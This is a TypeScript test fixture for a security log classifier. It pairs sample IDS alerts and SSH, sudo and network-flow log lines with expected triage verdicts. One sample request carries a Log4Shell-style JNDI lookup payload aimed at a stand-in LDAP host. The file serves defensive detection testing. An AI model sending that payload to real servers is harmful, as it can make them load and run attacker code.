/** A log line, and what it is: decision of Layer 3, class of Layer 4, severity. */
export type Decided = readonly [line: string, decision: string, name: string, severity: string];

export const eve = (part: string): string => `{"timestamp":"2025-11-23T12:00:00.000000+0000",${part}}`;
export const alert = (signature: string, severity: number): string =>
  eve(`"event_type":"alert","alert":{"signature":"${signature}","severity":${severity}}`);
export const ssh = (message: string): string => `Nov 23 12:00:00 h sshd[1]: ${message}`;

/** 200 MB to a public address, of which next to nothing came back. */
export const UPLOAD = eve(
  '"event_type":"flow","dest_ip":"198.51.100.1","flow":{"bytes_toserver":200000000,"bytes_toclient":1}',
);
export const LOOKUP = eve('"event_type":"http","http":{"url":"/?x=${jndi:ldap://e}"}');

/** What the rules decide. */
export const BY_RULES: readonly Decided[] = [
  [alert("ET MALWARE Cobalt Strike Beacon", 1), "ALERT", "MALWARE_C2", "CRITICAL"],
  [alert("ET EXPLOIT remote code execution", 1), "ALERT", "EXPLOIT", "HIGH"],
  [alert("ET SCAN Nmap sweep", 2), "REVIEW", "RECON", "MEDIUM"],
  [alert("ET POLICY curl", 3), "PASS", "POLICY", "LOW"],
  [ssh("Failed password for root from 203.0.113.7 port 1 ssh2"), "REVIEW", "BRUTE_FORCE", "MEDIUM"],
  [
    ssh("error: maximum authentication attempts exceeded for root from 203.0.113.7 port 1 ssh2"),
    "ALERT",
    "BRUTE_FORCE",
    "HIGH",
  ],
  [ssh("Accepted publickey for deploy from 10.0.0.1 port 1 ssh2"), "PASS", "BENIGN", "INFO"],
  [ssh("Accepted password for root from 10.0.0.1 port 1 ssh2"), "REVIEW", "POLICY", "MEDIUM"],
  [ssh("Did not receive identification string from 203.0.113.7 port 1"), "PASS", "RECON", "MEDIUM"],
  [UPLOAD, "REVIEW", "EXFILTRATION", "HIGH"],
  [
    eve('"event_type":"flow","dest_ip":"10.0.0.8","flow":{"bytes_toserver":200000000,"bytes_toclient":1}'),
    "PASS",
    "BENIGN",
    "INFO",
  ],
  [LOOKUP, "REVIEW", "EXPLOIT", "HIGH"],
  ["2025-11-23T12:34:56Z box sudo[7]: bob : user NOT in sudoers", "REVIEW", "PRIVILEGE_ESCALATION", "HIGH"],
  [eve('"event_type":"dns","dns":{"rrname":"example.org"}'), "PASS", "BENIGN", "INFO"],
];
